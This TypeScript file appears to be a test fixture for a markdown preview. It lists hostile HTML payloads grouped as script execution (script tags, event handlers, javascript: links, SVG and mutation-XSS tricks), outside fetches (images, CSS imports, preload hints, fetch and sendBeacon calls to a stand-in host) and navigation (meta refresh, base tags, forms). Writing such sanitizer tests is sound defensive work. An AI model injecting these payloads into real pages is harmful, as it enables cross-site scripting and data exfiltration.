import type { Payload } from './payloads.ts'

/**
 * Parts of documents that would run, ask another server or touch the page around them where a preview let them.
 * @param f a host that nobody may ask anything of, such as `http://127.0.0.1:1234`.
 */
export function hostileDocuments(f: string): { readonly name: string; readonly payloads: readonly Payload[] }[] {
  const drawing = (content: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">${content}</svg>`
  return [
    {
      name: 'what runs',
      payloads: [
        { name: 'a script', markdown: '<script>hit("script")</script>' },
        { name: 'a module', markdown: '<script type="module">hit("module")</script>' },
        { name: 'a script from elsewhere', markdown: `<script src="${f}/script.js"></script>` },
        { name: 'an import', markdown: `<script type="module">import("${f}/import.js")</script>` },
        { name: 'a request', markdown: `<script>fetch("${f}/fetch"); navigator.sendBeacon("${f}/beacon")</script>` },
        { name: 'a handler', markdown: '<img src="data:," onerror="hit(1)"><body onload="hit(2)">' },
        { name: 'a handler of focus', markdown: '<input autofocus onfocus="hit(3)">' },
        { name: 'a javascript link', markdown: '<a href="javascript:hit(4)">link</a>' },
        { name: 'a dialog', markdown: '<script>alert(1); print()</script>' },
        {
          name: 'a message',
          markdown: '<script>for (;;) parent.postMessage({ kind: "shown", height: 1e9 }, "*")</script>',
        },
        {
          name: 'a connection',
          markdown: `<script>new RTCPeerConnection({iceServers:[{urls:"stun:${new URL(f).host}"}]})</script>`,
        },
        { name: 'a template', markdown: '<template shadowrootmode="open"><script>hit(5)</script></template>' },
        {
          name: 'a script in a drawing',
          markdown: drawing('<script>hit(6)</script><a href="javascript:hit(7)"><text>x</text></a>'),
        },
        {
          name: 'a drawing with handlers',
          markdown: drawing('<g onload="hit(8)"><animate onbegin="hit(9)" attributeName="x" dur="1s"/></g>'),
        },
        { name: 'broken nesting', markdown: '<svg></p><style><a id="</style><img src=x onerror=hit(10)>"></a></svg>' },
        { name: 'a name of the page', markdown: '<form name="parent"></form><img name="documentElement">' },
      ],
    },
    {
      name: 'what fetches',
      payloads: [
        { name: 'an image', markdown: `<img src="${f}/image.png" srcset="${f}/2x.png 2x">` },
        { name: 'a picture', markdown: `<picture><source srcset="${f}/p.webp"><img src="${f}/p.png"></picture>` },
        {
          name: 'a film',
          markdown: `<video autoplay src="${f}/v.mp4" poster="${f}/poster.png"><track src="${f}/t"></video>`,
        },
        { name: 'a sound', markdown: `<audio autoplay src="${f}/a.mp3"></audio>` },
        { name: 'a style sheet', markdown: `<link rel="stylesheet" href="${f}/style.css">` },
        {
          name: 'hints',
          markdown: ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'modulepreload', 'icon', 'manifest']
            .map((rel) => `<link rel="${rel}" href="${f}/${rel}">`)
            .join(''),
        },
        { name: 'a preload', markdown: `<link rel="preload" as="image" href="${f}/preload.png">` },
        {
          name: 'rules of speculation',
          markdown: `<script type="speculationrules">{"prefetch":[{"urls":["${f}/"]}]}</script>`,
        },
        {
          name: 'styles',
          markdown: `<style>@import "${f}/import.css"; @font-face { font-family: x; src: url(${f}/font.woff2) } .x { font-family: x; background: url(${f}/background.png); cursor: url(${f}/c), auto }</style><p class="x">x</p>`,
        },
        {
          name: 'a style',
          markdown: `<p style="background: image-set(url(${f}/set.png) 1x); list-style-image: url(${f}/list.png)">x</p>`,
        },
        {
          name: 'a frame',
          markdown: `<iframe src="${f}/frame"></iframe><iframe srcdoc="<link rel=preconnect href=${f}/>"></iframe>`,
        },
        { name: 'objects', markdown: `<object data="${f}/object"></object><embed src="${f}/embed">` },
        { name: 'a background', markdown: `<table background="${f}/table.png"><tr><td>x</td></tr></table>` },
        { name: 'an input that is an image', markdown: `<input type="image" src="${f}/input.png">` },
        {
          name: 'drawings',
          markdown: drawing(
            `<image href="${f}/svg.png" width="9" height="9"/><use href="${f}/use.svg#a"/><feImage href="${f}/fe.png"/>`,
          ),
        },
        {
          name: 'a drawing with fills',
          markdown: drawing(`<rect width="9" height="9" fill="url(${f}/fill#a)" style="filter: url(${f}/filter#a)"/>`),
        },
        {
          name: 'a document in a drawing',
          markdown: drawing(
            `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${f}/foreign.png"/></foreignObject>`,
          ),
        },
      ],
    },
    {
      name: 'what leads away',
      payloads: [
        { name: 'a refresh', markdown: `<meta http-equiv="refresh" content="0; url=${f}/refresh">` },
        { name: 'a base', markdown: `<base href="${f}/base/" target="_top">` },
        {
          name: 'links',
          markdown: ['_self', '_top', '_blank', '_parent']
            .map((target) => `<a href="${f}/${target}" target="${target}" ping="${f}/ping">link</a>`)
            .join(' '),
        },
        {
          name: 'a link to the server itself',
          markdown: '<a href="/chat-stream?message=x">link</a> <a href="/" target="_top">link</a>',
        },
        { name: 'a file', markdown: '<a href="data:text/html,<script>hit(11)</script>" download>link</a>' },
        { name: 'a form', markdown: `<form action="${f}/form"><input name="q" value="x"><button>go</button></form>` },
        {
          name: 'a form that opens',
          markdown: `<form method="post" target="_blank"><button formaction="${f}/post">go</button></form>`,
        },
        {
          name: 'an area',
          markdown: `<map name="m"><area shape="default" href="${f}/area"></map><img usemap="#m" alt="x">`,
        },
        {
          name: 'a link in a drawing',
          markdown: drawing(`<a xlink:href="${f}/xlink"><rect width="40" height="40"/></a>`),
        },
        {
          name: 'a link that is animated',
          markdown: drawing(
            `<a href="#"><set attributeName="href" to="${f}/set" begin="0s"/><rect width="40" height="40"/></a>`,
          ),
        },
      ],
    },
  ]
}
